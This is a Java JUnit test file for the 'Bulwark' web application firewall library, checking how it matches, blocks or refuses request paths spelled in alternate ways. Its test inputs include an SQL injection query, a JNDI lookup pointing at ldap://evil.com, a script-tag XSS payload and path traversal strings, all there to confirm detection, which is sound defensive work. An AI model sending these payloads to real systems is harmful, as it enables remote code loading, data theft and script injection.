package dev.bulwark.core;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bulwark.core.config.BulwarkConfig;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

/**
 * Routes, IP rules, allow rules, exceptions and OpenAPI base paths match the path as the container
 * routes it; deny rules still see path parameters; suspicious paths are refused.
 */
class RoutingPathMatchingTest {

    private static final Bulwark IP_ROUTE = Bulwark.create(BulwarkConfig.fromYaml("""
            routes:
              - when: {path: {prefix: /account/admin/}}
                ip-rules: {allow: [10.0.0.0/8]}
            """));

    private static final Bulwark OPENAPI = Bulwark.create(BulwarkConfig.fromYaml("""
            openapi:
              specs: [{location: "classpath:openapi/petstore.yaml", base-path: /api}]
            """));

    private static final Bulwark DEFAULTS = Bulwark.create(BulwarkConfig.defaults());

    private static Decision get(Bulwark bulwark, String target) {
        return bulwark.evaluate(HttpRequest.builder("GET", target).remoteAddress("198.51.100.7").build());
    }

    @Test
    void appliesTheRouteIpAllowListWhenASegmentCarriesPathParameters() {
        Decision decision = get(IP_ROUTE, "/account/admin;x/y");

        assertThat(decision.blockType()).isEqualTo(BlockType.IP_RULE);
        assertThat(decision.findings().get(0).ruleId()).isEqualTo("IP-NOT-ALLOWED");
    }

    @Test
    void appliesTheRouteIpAllowListAfterResolvingDotSegments() {
        assertThat(get(IP_ROUTE, "/account/x/../admin/y").blockType()).isEqualTo(BlockType.IP_RULE);
        assertThat(get(IP_ROUTE, "/account//admin/y").blockType()).isEqualTo(BlockType.IP_RULE);
        assertThat(get(IP_ROUTE, "/account/%61dmin/y").blockType()).isEqualTo(BlockType.IP_RULE);
    }

    @Test
    void refusesAnotherSpellingOfARoutedPathWith400() {
        for (String target : new String[] {"/ACCOUNT/admin/y", "/account/admin./y", "/account/admin%20/y"}) {
            Decision decision = get(IP_ROUTE, target);

            assertThat(decision.status()).as(target).isEqualTo(400);
            assertThat(decision.findings().get(0).ruleId()).as(target).isEqualTo("MALFORMED-PATH-ROUTE-SPELLING");
        }
    }

    @Test
    void allowsPathsOutsideTheRouteInAnySpelling() {
        assertThat(get(IP_ROUTE, "/account/administrator/y").allowed()).isTrue();
        assertThat(get(IP_ROUTE, "/Account/profile").allowed()).isTrue();
    }

    @Test
    void allowRuleDoesNotPermitAnotherCase() {
        Bulwark bulwark = Bulwark.create(BulwarkConfig.fromYaml("allow-rules: [{path: {prefix: /api/}}]"));

        assertThat(get(bulwark, "/api;v=1/pets").allowed()).isTrue();
        assertThat(get(bulwark, "/API/pets").findings().get(0).ruleId()).isEqualTo("ALLOW-NO-MATCH");
    }

    @Test
    void exceptionCoversTheRoutedPathButNotAnotherCase() {
        Bulwark bulwark = Bulwark.create(BulwarkConfig.fromYaml("""
                deny-rules:
                  exceptions:
                    - rule-keys: [SQL]
                      when: {path: {exact: /search}}
                """));
        String query = "?q=1%27%20UNION%20SELECT%20password%20FROM%20users--";

        assertThat(get(bulwark, "/search" + query).allowed()).isTrue();
        assertThat(get(bulwark, "/search;jsessionid=1" + query).allowed()).isTrue();
        assertThat(get(bulwark, "/SEARCH" + query).blockType()).isEqualTo(BlockType.DENY);
    }

    @Test
    void customRuleAppliesToEverySpellingOfItsPath() {
        Bulwark bulwark = Bulwark.create(BulwarkConfig.fromYaml("""
                deny-rules:
                  custom-rules:
                    - id: NO-DEBUG
                      when: {path: {prefix: /internal/}}
                      parameter: {name: debug}
                """));

        assertThat(get(bulwark, "/Internal./status?debug=1").blockType()).isEqualTo(BlockType.DENY);
    }

    @Test
    void inspectsTheParametersOfADroppedDotSegment() {
        Decision decision = get(DEFAULTS, "/t/..;%24%7Bjndi:ldap:%2F%2Fevil.com%2Fa%7D/y");

        assertThat(decision.blockType()).isEqualTo(BlockType.DENY);
        assertThat(decision.findings()).anySatisfy(
                finding -> assertThat(finding.location()).isEqualTo(Location.value(Source.PATH_PARAMETER, "1")));
    }

    @Test
    void blocksJndiLookupWhoseSlashesCutItAcrossSegments() {
        Decision decision = get(DEFAULTS, "/t/..;$%7Bjndi:ldap://evil.com/a%7D/y");

        assertThat(decision.blockType()).isEqualTo(BlockType.DENY);
        assertThat(decision.findings().get(0).ruleKey()).isEqualTo("JAVA");
    }

    @Test
    void blocksDotDotInThePathAsSentBeforeCallingItSuspicious() {
        Decision decision = get(DEFAULTS, "/files//../b");

        assertThat(decision.status()).isEqualTo(403);
        assertThat(decision.findings().get(0).ruleKey()).isEqualTo("PATH");
    }

    @Test
    void inspectsScriptInTheParametersOfASingleDotSegment() {
        Decision decision = get(DEFAULTS, "/t/.;%3Cscript%3Ealert(1)%3C/script%3E/y");

        assertThat(decision.blockType()).isEqualTo(BlockType.DENY);
        assertThat(decision.findings().get(0).ruleKey()).isEqualTo("XSS");
    }

    @Test
    void refusesSuspiciousPathsWith400() {
        String[][] cases = {
            {"/files/a%2Fb", "MALFORMED-PATH-ENCODED-SLASH"},
            {"/files/a%5Cb", "MALFORMED-PATH-BACKSLASH"},
            {"/files/.;x/b", "MALFORMED-PATH-DOT-SEGMENT-WITH-PARAMETERS"},
            {"/files/%2e/b", "MALFORMED-PATH-ENCODED-DOT-SEGMENT"},
        };
        for (String[] c : cases) {
            Decision decision = get(DEFAULTS, c[0]);

            assertThat(decision.status()).as(c[0]).isEqualTo(400);
            assertThat(decision.findings().get(0).ruleId()).as(c[0]).isEqualTo(c[1]);
        }
    }

    @Test
    void allowsOrdinaryPathParameters() {
        assertThat(get(DEFAULTS, "/shop/cart;jsessionid=0A1B2C/items").allowed()).isTrue();
    }

    @Test
    void validatesAgainstTheContractWhenTheBasePathCarriesParameters() {
        assertThat(get(OPENAPI, "/api;x/pets?limit=1000").status()).isEqualTo(400);
        assertThat(OPENAPI.evaluate(HttpRequest.builder("PATCH", "/api;x/pets/1").build()).status()).isEqualTo(405);
        Decision invalidBody = OPENAPI.evaluate(HttpRequest.builder("POST", "/api;x/pets")
                .header("Content-Type", "application/json").body("{\"name\":7}".getBytes(StandardCharsets.UTF_8)).build());
        assertThat(invalidBody.blockType()).isEqualTo(BlockType.OPENAPI);
    }

    @Test
    void refusesAnotherSpellingOfTheBasePathAsUnknown() {
        Decision decision = get(OPENAPI, "/API/pets?limit=1000");

        assertThat(decision.status()).isEqualTo(404);
        assertThat(decision.blockType()).isEqualTo(BlockType.OPENAPI);
    }
}
